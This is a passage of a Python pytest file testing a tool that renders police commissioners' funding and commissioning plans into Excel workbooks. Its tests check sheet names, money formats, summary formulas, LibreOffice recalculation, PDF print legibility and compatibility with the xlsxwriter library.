    assert "Committed and uncommitted by fund" in page  # the title above them: not cut
    assert all(name in page for name in MANY_FUNDS)


def test_sheet_names_edge_cases() -> None:
    names = sheet_names(["History", "'Quoted'", "", "a" * 50, "A" * 50, "Children's Fund"])
    assert names == [
        "History (2)",
        "Quoted",
        "Fund",
        "a" * 31,
        "A" * 27 + " (2)",
        "Children's Fund",
    ]


def test_sheet_names_count_emoji_as_excel_does(tmp_path: Path) -> None:
    # Excel's 31-character limit counts UTF-16 units: an emoji is two. A fund named with
    # emoji must still get a sheet, not an E-RENDER.
    long_name = "🚓 Victims 👮 Fund with a long name ✨✨"
    names = sheet_names([long_name, "🚓" * 40])
    assert all(len(n.encode("utf-16-le")) // 2 <= 31 for n in names)
    assert names[0].startswith("🚓 Victims 👮 Fund")
    assert names[1] == "🚓" * 15
    funds = [[long_name, Decimal(1000), "", ""]]
    sources = [[long_name, "Local", Decimal(1000), "No", ""]]
    recon = recon_of(
        make_workbook(
            tmp_path, funds=funds, sources=sources, services=[service_row(fund=long_name)]
        )
    )
    sheets = openpyxl.load_workbook(render(recon, tmp_path)).sheetnames
    assert sheets[1] == names[0]


def test_pence_are_shown_only_where_the_data_has_pence(tmp_path: Path) -> None:
    names = ["Victims Fund", "Violence Reduction Fund"]
    budgets = [Decimal("1151444.09"), Decimal(5000)]
    funds = [
        [names[0], Decimal("1200000.00"), "DVCVA 2004", "Victims."],
        [names[1], Decimal(100_000), "s143", "VRU."],
    ]
    sources = [
        [names[0], "MoJ Victims' Services Grant", Decimal(1_200_000), "Yes", ""],
        [names[1], "Home Office grant", Decimal(100_000), "No", ""],
    ]
    services = [
        service_row(fund=n, service=f"S{i}", budget=b)
        for i, (n, b) in enumerate(zip(names, budgets, strict=True))
    ]
    recon = recon_of(make_workbook(tmp_path, funds=funds, sources=sources, services=services))
    path = render(recon, tmp_path)
    wb = openpyxl.load_workbook(path)
    values = openpyxl.load_workbook(path, data_only=True)
    victims, vrf = wb["Victims Fund"], wb["Violence Reduction Fund"]
    assert victims["I4"].number_format == victims["I5"].number_format == "£#,##0.00;[Red]-£#,##0.00"
    assert money(values["Victims Fund"]["I5"].value) == Decimal("1151444.09")
    assert vrf["I4"].number_format == "£#,##0;[Red]-£#,##0"  # this fund has no pence
    assert wb["Summary"]["B4"].number_format == "£#,##0.00;[Red]-£#,##0.00"
    assert money(values["Summary"]["F4"].value) == Decimal("48555.91")  # uncommitted
    assert wb["Summary"]["E24"].number_format == "£#,##0.00;[Red]-£#,##0.00"


def test_three_funds_with_several_moj_streams(tmp_path: Path) -> None:
    vf, csf, vrf = "Victims Fund", "Community Safety Fund", "Violence Reduction Fund"
    funds = [
        [vf, Decimal(1_109_000), "DVCVA 2004", "Victims."],
        [csf, Decimal(556_000), "s143", "Community safety."],
        [vrf, Decimal(880_000), "s143", "Serious violence."],
    ]
    sources = [  # the Victims Fund's local money typed between its MoJ streams
        [vf, "MoJ Victims' Services Grant (core)", Decimal(700_000), "Yes", "MOJ-1"],
        [vf, "Local supplement", Decimal(125_000), "No", ""],
        [vf, "MoJ Domestic Abuse and Sexual Violence", Decimal(184_000), "Yes", "MOJ-2"],
        [vf, "Ministry of Justice ISVA/IDVA uplift", Decimal(100_000), "Yes", "MOJ-3"],
        [csf, "Police main grant", Decimal(556_000), "No", ""],
        [vrf, "Home Office Serious Violence Fund", Decimal(800_000), "Yes", ""],
        [vrf, "Local supplement", Decimal(80_000), "No", ""],
    ]
    services = [
        service_row(fund=vf, service="ISVA", budget=Decimal(500_000)),
        service_row(
            fund=csf, service="YOS", purpose="Reducing re-offending", budget=Decimal(172_900)
        ),
        service_row(fund=vrf, service="Violence Reduction Unit", budget=Decimal(600_000)),
    ]
    recon = recon_of(make_workbook(tmp_path, funds=funds, sources=sources, services=services))
    path = render(recon, tmp_path)
    wb = openpyxl.load_workbook(path, data_only=True)
    rows_, total = summary_funds(wb["Summary"])  # the same seven columns
    assert [[row[0], *(money(v) for v in row[1:-1])] for row in [*rows_, total]] == [
        [vf, 1_109_000, 984_000, 125_000, 500_000, 609_000],
        [csf, 556_000, 0, 556_000, 172_900, 383_100],
        [vrf, 880_000, 0, 880_000, 600_000, 280_000],
        ["Total", 2_545_000, 984_000, 1_561_000, 1_272_900, 1_272_100],
    ]
    for row in [*rows_, total]:
        assert money(row[2]) + money(row[3]) == money(row[1]), row[0]  # MoJ + other
    listed, sources_total = summary_sources(wb["Summary"])
    assert [[*row[:4], money(row[4])] for row in listed] == [
        [*row[:2], row[3], row[4] or None, row[2]] for row in sources
    ]
    assert money(sources_total[-1]) == 2_545_000
    formulas = openpyxl.load_workbook(path)["Summary"]
    first = int(formulas.tables[SOURCES_TABLE].ref.split(":")[0][1:]) + 1
    # The three MoJ streams: the first source, then the third and fourth.
    assert formulas["C4"].value == f"=SUM(E{first},E{first + 2}:E{first + 3})"
    assert formulas["D4"].value == f"=SUM(E{first + 1})"
    assert formulas["D6"].value == f"=SUM(E{first + 5}:E{first + 6})"  # Home Office and local


def many_sources_workbook(tmp_path: Path, count: int) -> Reconciliation:
    """Three funds sharing ``count`` sources, every other one an MoJ stream with a long name."""
    names = ["Victims Fund", "Community Safety Fund", "Violence Reduction Fund"]
    per_fund: list[list[list[Any]]] = [[] for _ in names]
    for i in range(count):
        fund = i % len(names)
        source = (
            f"Ministry of Justice Domestic Abuse and Sexual Violence stream {i}"
            if i % 2 == 0
            else f"Local partner contribution {i}"
        )
        per_fund[fund].append(
            [
                names[fund],
                source,
                Decimal(10_000 * (i + 1)) + Decimal("0.25"),
                "Yes" if i % 3 == 0 else "No",
                f"REF/{i:03}",
            ]
        )
    sources = [row for rows in per_fund for row in rows]
    allocations = [sum((r[2] for r in rows), Decimal(0)) for rows in per_fund]
    funds = [[n, a, "s143", "A fund."] for n, a in zip(names, allocations, strict=True) if a]
    services = [
        service_row(
            fund=f[0], service=f"Service {i}", purpose="Reducing crime", budget=Decimal(5_000)
        )
        for i, f in enumerate(funds)
    ]
    return recon_of(make_workbook(tmp_path, funds=funds, sources=sources, services=services))


@pytest.mark.parametrize("count", [1, 2, 4, 15])
def test_the_summary_keeps_seven_columns_however_many_sources(tmp_path: Path, count: int) -> None:
    recon = many_sources_workbook(tmp_path, count)
    path = render(recon, tmp_path)
    wb = openpyxl.load_workbook(path, data_only=True)
    ws = wb["Summary"]
    funds, total = summary_funds(ws)
    assert len(funds) == min(count, 3)
    for row in [*funds, total]:
        assert money(row[2]) + money(row[3]) == money(row[1]), row[0]
    sources, sources_total = summary_sources(ws)
    assert len(sources) == count
    assert money(sources_total[-1]) == money(total[1])
    moj = sum((s.amount for f in recon.funds for s in f.moj_sources), Decimal(0))
    assert money(total[2]) == moj
    # Readable when printed one page wide: no wider than the sample's service sheets.
    widths = [ws.column_dimensions[col].width for col in "ABCDEFG"]
    assert sum(widths) <= 150, widths
    assert ws.max_column == 7


@pytest.mark.slow
def test_fifteen_sources_recalculate_in_libreoffice_and_print_readably(tmp_path: Path) -> None:
    path = render(many_sources_workbook(tmp_path, 15), tmp_path)
    fresh = openpyxl.load_workbook(
        convert(path, "xlsx", tmp_path / "recalculated"), data_only=True
    )["Summary"]
    cached = openpyxl.load_workbook(path, data_only=True)["Summary"]
    formulas = [(ref, formula) for sheet, ref, formula in formula_cells(path) if sheet == "Summary"]
    assert len(formulas) == 3 * 5 + 6 + 1
    for ref, formula in formulas:
        after = fresh[ref].value
        assert isinstance(after, (int, float)), (ref, formula, after)
        assert after == pytest.approx(cached[ref].value, abs=1e-9), (ref, formula)
    # Printed: every source is on the Summary's pages, in a size a reader can read.
    pdf = convert(path, "pdf", tmp_path / "pdf")
    pages = pdf_text(pdf).split("\f")
    summary = "\n".join(
        page for page in pages if "Funding sources" in page or "Local partner contribution" in page
    )
    for i in range(15):
        assert f"stream {i}" in summary or f"contribution {i}" in summary, i
    assert printed_text_height(pdf) >= 10


def printed_text_height(pdf: Path) -> float:
    """The height in points of the first "Total" printed on page 1 (the Summary's).

    11-point text printed at full size is about 13 points high; fitting too many columns to the
    page's width shrinks it (a Summary with a column per source printed at about 8).
    """
    from tests.office import pdftotext

    boxes = subprocess.run(
        [pdftotext(), "-bbox", "-f", "1", "-l", "1", str(pdf), "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    found = re.search(r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">Total<', boxes)
    assert found, "no Total on the first page"
    return float(found.group(2)) - float(found.group(1))


def test_a_fund_without_lines_says_so(tmp_path: Path) -> None:
    content = sample_content()
    funds = [*content.funds, ["Safer Streets Fund", Decimal(50_000), "s143", "New."]]
    sources = [
        *content.sources,
        ["Safer Streets Fund", "Home Office grant", Decimal(50_000), "No", ""],
    ]
    recon = recon_of(make_workbook(tmp_path, funds=funds, sources=sources))
    wb = openpyxl.load_workbook(render(recon, tmp_path), data_only=True)
    assert wb["Safer Streets Fund"]["A4"].value == "No services are commissioned from this fund."
    # A table all the same: its header row for a screen reader, the note as its one row.
    [table] = wb["Safer Streets Fund"].tables.values()
    assert table.ref == "A3:I4" and wb["Safer Streets Fund"]["A3"].value == "Service"
    summary, total = summary_funds(wb["Summary"])
    assert [money(v) for v in summary[2][1:-1]] == [50_000, 0, 50_000, 0, 50_000]
    assert money(total[-2]) == 295_730 + 50_000


def test_dates_written_as_dates(sample_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(sample_xlsx, data_only=True)["Victims Fund"]
    assert ws["D4"].value == datetime(2018, 10, 1)
    assert ws["E4"].value.date() == date(2022, 3, 31)


def test_long_sheet_names_are_cut_between_words() -> None:
    # A screen reader announces the sheet tab: whole words, not "… and Gir".
    names = sheet_names(
        [
            "Violence Against Women and Girls Fund",
            "Violence Against Women and Girls Fund (Home Office)",
            "Serious Violence Duty – Prevention Fund",
        ]
    )
    assert names == [
        "Violence Against Women and",
        "Violence Against Women and (2)",
        "Serious Violence Duty",
    ]


# -- the body that decides, and one word for money not yet committed (#15, #17) ---------------

PFCC = [
    ("Organisation", "Office of the Police, Fire and Crime Commissioner for Essex"),
    ("Decision maker", "Police, Fire and Crime Commissioner"),
    ("Decision maker short", "PFCC"),
]


def pfcc_plan(content: Any) -> None:
    """The sample as Essex's PFCC would file it: its own organisation and title."""
    content.decision = [
        ("Police area", "Essex")
        if name == "Police area"
        else ("Subject", "Commissioning Strategy and Plan for 2021/22")
        if name == "Subject"
        else (name, value)
        for name, value in content.decision
    ] + PFCC
    for row in content.services:
        row[9] = str(row[9]).replace("OPCC", "OPFCC")


def test_the_summary_names_the_body_that_decides(tmp_path: Path) -> None:
    recon = recon_of(make_workbook(tmp_path, edit=pfcc_plan))
    wb = openpyxl.load_workbook(render(recon, tmp_path))
    body = PFCC[0][1]
    assert wb["Summary"]["A2"].value.startswith(f"{body}, decision 015/2021.")
    about = {row[0]: row[1] for row in rows(wb["About"])[3:]}
    assert about["Publisher"] == body
    assert about["Decision maker"] == "Police, Fire and Crime Commissioner"
    assert body in about["Accessibility"]
    assert wb.properties.creator == body
    with zipfile.ZipFile(tmp_path / "summary.xlsx") as archive:
        for name in archive.namelist():
            xml = archive.read(name).decode("utf-8")
            assert "Police and Crime Commissioner" not in xml, name
            assert not re.search(r"\bO?PCC\b", xml), name


def test_the_default_body_is_the_pccs_office(sample_xlsx: Path) -> None:
    wb = openpyxl.load_workbook(sample_xlsx)
    about = {row[0]: row[1] for row in rows(wb["About"])[3:]}
    assert about["Publisher"] == "Office of the Police and Crime Commissioner for Lincolnshire"
    assert about["Decision maker"] == "Police and Crime Commissioner"
    assert wb["Summary"]["A2"].value.startswith(
        "Office of the Police and Crime Commissioner for Lincolnshire, decision 015/2021."
    )


def test_money_not_committed_is_uncommitted_everywhere(sample_xlsx: Path) -> None:
    header, _, _ = table_rows(openpyxl.load_workbook(sample_xlsx)["Summary"], FUNDS_TABLE)
    assert header[5] == "Uncommitted (£)"
    with zipfile.ZipFile(sample_xlsx) as archive:
        text = "".join(archive.read(n).decode("utf-8") for n in archive.namelist())
    assert not re.search(r"unallocated|headroom", text, re.IGNORECASE)
    assert "Committed and uncommitted by fund, 2021/22" in text


def test_a_header_word_is_never_split_over_two_lines() -> None:
    # An empty fund sheet's columns are as wide as their headers: "commissione / d" read as
    # two words in LibreOffice's PDF before.
    for header, cap, _ in LINE_COLUMNS:
        assert text_width(0, cap, header) >= max(len(word) for word in header.split()) + 2


# The xlsxwriter method the summary's worksheet overrides, as in the tested version: a new
# xlsxwriter that changes it fails here. Check that SummaryWorksheet still gives what it gives,
# then record the new source's SHA-256.
XLSXWRITER_PREPARE_FORMULA = "28917ac4"


def test_the_summary_worksheet_prepares_formulas_as_xlsxwriter_does() -> None:
    import hashlib
    import inspect

    from xlsxwriter.worksheet import Worksheet

    from pipeline.summary_worksheet import worksheet_class

    source = inspect.getsource(Worksheet._prepare_formula).encode()
    assert hashlib.sha256(source).hexdigest()[:8] == XLSXWRITER_PREPARE_FORMULA
    ours, theirs = worksheet_class()(), Worksheet()
    formulas = [
        "=SUM(I4:I10012)",
        '=IF(OR(F4="",G4="",F4=0),"–",H4/F4)',
        "=G4-F4",
        "{=SUM(A1:A3*B1:B3)}",
        "=FILTER(A1:A9,B1:B9>0)",  # rewritten by xlsxwriter: left to it
        "=XLOOKUP(A1,B1:B9,C1:C9)",
        "=_xlfn.STDEV.S(A1:A9)",
        "=ASINGLE(A1)",  # its r"\SINGLE\(" pattern matches this too
        "=SORTBY(A1:A9,B1:B9)",
    ]
    for formula in formulas:
        assert ours._prepare_formula(formula) == theirs._prepare_formula(formula), formula
    for sheet in (ours, theirs):
        sheet.use_future_functions = True
    for formula in [*formulas, "=STDEV.S(A1:A9)", "=CONCAT(A1,B1)"]:
        assert ours._prepare_formula(formula) == theirs._prepare_formula(formula), formula


def test_the_summary_leaves_nothing_for_the_garbage_collector(
    sample_recon: Reconciliation,
) -> None:
    # A 10,000-line summary's workbook holds hundreds of thousands of cell objects; xlsxwriter's
    # worksheets refer back to their workbook, so without its cycle broken they waited for a
    # collector pass over the whole process (pipeline.memory, #21).
    import gc

    gc.collect()
    gc.disable()
    try:
        render_xlsx(Report.of(sample_recon), io.BytesIO())
        assert gc.collect() == 0
    finally:
        gc.enable()


def test_the_collector_is_paused_while_the_summary_is_made_and_on_again_after(
    sample_recon: Reconciliation, monkeypatch: pytest.MonkeyPatch
) -> None:
    import gc

    from pipeline import summary_funds

    seen: list[bool] = []
    fund_sheet = summary_funds.fund_sheet

    def recorded(*args: Any) -> None:
        seen.append(gc.isenabled())
        fund_sheet(*args)

    monkeypatch.setattr("pipeline.render_xlsx.fund_sheet", recorded)
    assert gc.isenabled()
    render_xlsx(Report.of(sample_recon), io.BytesIO())
    assert seen and not any(seen)
    assert gc.isenabled()


# The xlsxwriter methods whose output the summary's worksheet writes itself for its common
# cells, as in the tested version: a new xlsxwriter that changes one fails here. Check that
# SummaryWorksheet still writes what xlsxwriter writes, then record the new SHA-256s.
XLSXWRITER_CELL_WRITERS = {
    "Worksheet._write_cell": "31d1fc8c",
    "XMLwriter._xml_number_element": "19208bbe",
    "XMLwriter._xml_string_element": "4b466920",
    "XMLwriter._xml_formula_element": "af6f3ff0",
    "XMLwriter._xml_empty_tag": "1ddc10e3",
}


def test_the_summary_worksheet_writes_cells_as_xlsxwriter_does() -> None:
    import hashlib
    import inspect

    import xlsxwriter
    from xlsxwriter.worksheet import Worksheet
    from xlsxwriter.xmlwriter import XMLwriter

    from pipeline.summary_worksheet import worksheet_class

    for name, digest in XLSXWRITER_CELL_WRITERS.items():
        owner, method = name.split(".")
        source = inspect.getsource(
            getattr({"Worksheet": Worksheet, "XMLwriter": XMLwriter}[owner], method)
        )
        assert hashlib.sha256(source.encode()).hexdigest()[:8] == digest, name

    def sheet_xml(sheet_class: type) -> bytes:
        buffer = io.BytesIO()
        workbook = xlsxwriter.Workbook(buffer, {"strings_to_formulas": False})
        workbook.set_properties({"created": datetime(2021, 5, 28)})
        bold = workbook.add_format({"bold": True})
        money = workbook.add_format({"num_format": "£#,##0.00"})
        when = workbook.add_format({"num_format": "dd/mm/yyyy"})
        ws = workbook.add_worksheet("Lines", sheet_class)
        ws.set_column(5, 5, 12, bold)  # a column format: cells without their own take it
        ws.set_row(3, 30, money)  # and a row format
        for row, text in enumerate(['Smith & Sons <Ltd> "quoted"', " spaced ", "=SUM(A1)", "é"]):
            ws.write_string(row, 0, text, bold)
            ws.write_string(row, 1, text)  # no format of its own
            ws.write_number(row, 2, Decimal("805211.99") + row, money)
            ws.write_number(row, 3, 0.1 + 0.2)
            ws.write_number(row, 10, 1234567.123456789 * (row + 1), money)  # 16 digits
            ws.write_datetime(row, 4, datetime(2021, 4, 1 + row), when)
            ws.write_string(row, 5, text)
            ws.write_blank(row, 6, None, bold)
            ws.write_formula(row, 7, f"=C{row + 1}*2", money, Decimal(2) * row)
            ws.write_boolean(row, 8, bool(row % 2), bold)
            ws.write_rich_string(row, 9, "a ", bold, "bold", " word")
            # Formulas with text values (the Changes sheet's "–"), some needing escapes.
            for col, (formula, value) in enumerate(
                [
                    (f'=IF(C{row + 1}=0,"–",C{row + 1})', "–"),
                    (f'=IF(C{row + 1}<0,"a&b",1)', "a&b"),
                    (f"=C{row + 1}/0", "#DIV/0!"),
                    (f"=C{row + 1}", ""),
                    (f"=C{row + 1}", Decimal("-12.50")),
                    (f"=C{row + 1}", 7),
                ],
                start=11,
            ):
                ws.write_formula(row, col, formula, money, value)
        workbook.close()
        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
            return archive.read("xl/worksheets/sheet1.xml")

    ours = sheet_xml(worksheet_class())
    assert ours == sheet_xml(Worksheet)
    assert b' t="s"><v>' in ours and b"<v>805211.99</v>" in ours  # the cells it writes itself


# xlsxwriter's public cell writers, as in the tested version: each converts an "A1" row
# argument (convert_cell_args) and calls its _write_<kind>, which the fund and Commitments
# sheets call directly (summary_worksheet.cell_writers). A new xlsxwriter that makes them do
# more fails here: check cell_writers still writes the same cells, then record the SHA-256s.
XLSXWRITER_PUBLIC_WRITERS = {
    "write_string": "f0db3bf0",
    "write_number": "83f70bb8",
    "write_datetime": "3a098b31",
    "convert_cell_args": "9f627eb1",
}


def test_the_fund_sheets_cell_writers_are_what_xlsxwriter_s_public_ones_call() -> None:
    import hashlib
    import inspect

    import xlsxwriter.worksheet
    from xlsxwriter.sharedstrings import SharedStringTable

    from pipeline.summary_worksheet import cell_writers

    owner = xlsxwriter.worksheet
    for name, digest in XLSXWRITER_PUBLIC_WRITERS.items():
        function = getattr(owner.Worksheet, name, None) or getattr(owner, name)
        source = inspect.getsource(function).encode()
        assert hashlib.sha256(source).hexdigest()[:8] == digest, name
    sheets = [owner.Worksheet(), owner.Worksheet()]
    for sheet in sheets:
        sheet.str_table = SharedStringTable()
    string, number, when = cell_writers(sheets[1], "string", "number", "datetime")
    sheets[0].write_string(3, 1, "Victim Support")
    string(3, 1, "Victim Support")
    sheets[0].write_number(3, 2, Decimal("260000.00"))
    number(3, 2, Decimal("260000.00"))
    sheets[0].write_datetime(3, 4, datetime(2021, 4, 1))
    when(3, 4, datetime(2021, 4, 1))
    assert sheets[0].table == sheets[1].table


PREVIOUS_YEAR = Path(__file__).resolve().parent / "fixtures" / "lincolnshire-2020-21.xlsx"


def _summary_bytes(report: Report) -> bytes:
    stream = io.BytesIO()
    render_xlsx(report, stream)
    return stream.getvalue()


def _forget_the_xlsxwriter_check() -> None:
    summary_worksheet._tested_xlsxwriter.cache_clear()
    summary_worksheet.worksheet_class.cache_clear()


def test_another_xlsxwriter_writes_the_same_summary_with_its_own_code(
    sample_recon: Reconciliation, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The speed-ups use xlsxwriter's private code as the tested version has it; any other
    # version writes through its public methods and its own Worksheet (what a `pip install .`
    # without requirements.lock may bring). The workbook must not differ by a byte.
    from xlsxwriter.worksheet import Worksheet

    last_year = load(PREVIOUS_YEAR)
    assert last_year.plan is not None, last_year.findings
    previous = reconcile(last_year.plan)
    reports = [Report.of(sample_recon), Report.of(sample_recon, compare(sample_recon, previous))]
    fast = [_summary_bytes(report) for report in reports]
    assert summary_worksheet.worksheet_class() is not Worksheet
    monkeypatch.setattr(xlsxwriter, "__version__", "9.9.9")
    _forget_the_xlsxwriter_check()
    try:
        assert summary_worksheet.worksheet_class() is Worksheet
        assert [_summary_bytes(report) for report in reports] == fast
    finally:
        monkeypatch.undo()
        _forget_the_xlsxwriter_check()
    assert summary_worksheet.worksheet_class() is not Worksheet


def test_the_tested_xlsxwriter_is_the_locked_one() -> None:
    # Upgrading xlsxwriter in requirements.lock means checking the speed-ups against it (the
    # digests above) and then moving XLSXWRITER_TESTED with it.
    lock = (Path(__file__).resolve().parent.parent / "requirements.lock").read_text("utf-8")
    assert f"xlsxwriter=={summary_worksheet.XLSXWRITER_TESTED}\n" in lock.lower()
    assert xlsxwriter.__version__ == summary_worksheet.XLSXWRITER_TESTED


def _capitals(content: Any) -> None:
    """The sample typed in capitals, as some finance systems export it."""
    content.services = [
        [v.upper() if isinstance(v, str) and i in (1, 2, 4) else v for i, v in enumerate(row)]
        for row in content.services
    ]


def _word_boxes(pdf: Path) -> list[list[tuple[float, float, float, float, str]]]:
    """Each page's words as pdftotext -bbox reads them: (x0, y0, x1, y1, word)."""
    xml = subprocess.run(
        [pdftotext(), "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    word = re.compile(
        r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<'
    )
    return [
        [(float(a), float(b), float(c), float(d), w) for a, b, c, d, w in word.findall(page)]
        for page in xml.split("<page ")[1:]
    ]


@pytest.mark.slow
def test_text_in_capitals_gets_rows_tall_enough_to_print_it(tmp_path: Path) -> None:
    # Row heights counted characters as lower-case letters: 'WOMEN'S AID MIDLANDS & WEST'
    # printed its second line over the next row's organisation, and a Provision in capitals
    # its third line over the next line. No two words of the printed sheet may overlap.
    orgs = ["WOMEN'S AID MIDLANDS & WEST", "NHS LINCOLNSHIRE CLINICAL COMMISSIONING GROUP"]

    def edit(content: Any) -> None:
        _capitals(content)
        content.services = [
            [orgs[i % 2] if j == 2 and row[1] else v for j, v in enumerate(row)]
            for i, row in enumerate(content.services)
        ]

    xlsx = render(recon_of(make_workbook(tmp_path, edit=edit)), tmp_path)
    pdf = convert(xlsx, "pdf", tmp_path / "pdf")
    overlaps = [
        (a[4], b[4])
        for page in _word_boxes(pdf)
        for i, a in enumerate(page)
        for b in page[i + 1 :]
        if _overlap(a[0], a[2], b[0], b[2]) > 0.5
        and _overlap(a[1], a[3], b[1], b[3]) > 0.4 * min(a[3] - a[1], b[3] - b[1])
    ]
    assert overlaps == []


def _overlap(start: float, end: float, other_start: float, other_end: float) -> float:
    """How far two spans overlap (0 when they do not); a word's box holds its line's leading,
    so the boxes of two lines one above the other touch a little."""
    return max(0.0, min(end, other_end) - max(start, other_start))
